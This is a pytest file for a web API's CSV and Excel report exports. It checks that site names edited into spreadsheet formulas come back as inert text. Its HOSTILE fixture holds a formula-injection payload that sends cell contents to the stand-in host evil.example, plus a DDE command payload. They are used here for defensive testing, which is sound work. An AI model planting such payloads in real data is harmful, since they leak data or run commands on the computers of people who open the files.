"""Nothing in a download executes: a site name edited to a spreadsheet formula comes back from
summary.csv and summary.xlsx as text that reads as the name (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.app import create_app
from api.auth import TokenSet, hash_token
from api.reports.spreadsheet_text import FORMULA_STARTS, neutralised
from tests.reports.conftest import NOW, competition

BASE = "/api/competitions/liten"
AUTH = {"Authorization": "Bearer t"}
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1;"Klicka här")',
    "municipality": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+46 70", "'+46 70"),
        ("-Kommunhus", "'-Kommunhus"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("Söderhamns kommunhus", "Söderhamns kommunhus"),
        ("Kommunhus = bäst", "Kommunhus = bäst"),
        ("", ""),
    ],
)
def test_neutralised(text, expected):
    assert neutralised(text) == expected


def _edited_client(store):
    tokens = TokenSet({"anna": hash_token("t")})
    app = create_app([competition()], store, clock=NOW.timestamp, tokens=tokens)
    client = TestClient(app)
    client.__enter__()
    r = client.patch(f"{BASE}/sites/alfa", json=HOSTILE, headers=AUTH)
    assert r.status_code == 200, r.text
    return client


@pytest.mark.parametrize("path", [f"{BASE}/summary.csv", f"{BASE}/sites/alfa/summary.csv"])
def test_csv_cells_never_start_a_formula(store, path):
    client = _edited_client(store)
    try:
        body = client.get(path).content.decode("utf-8-sig")
    finally:
        client.__exit__(None, None, None)
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + HOSTILE["name"] in cells and "'" + HOSTILE["municipality"] in cells
    for cell in cells:
        assert not cell.lstrip(" ").startswith(FORMULA_STARTS), cell


@pytest.mark.parametrize("path", [f"{BASE}/summary.xlsx", f"{BASE}/sites/alfa/summary.xlsx"])
def test_xlsx_cells_are_text_never_formulas(store, path):
    client = _edited_client(store)
    try:
        body = client.get(path).content
    finally:
        client.__exit__(None, None, None)
    workbook = load_workbook(io.BytesIO(body))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.lstrip(" ").startswith(FORMULA_STARTS), cell.value
                    texts.append(cell.value)
    assert "'" + HOSTILE["name"] in texts
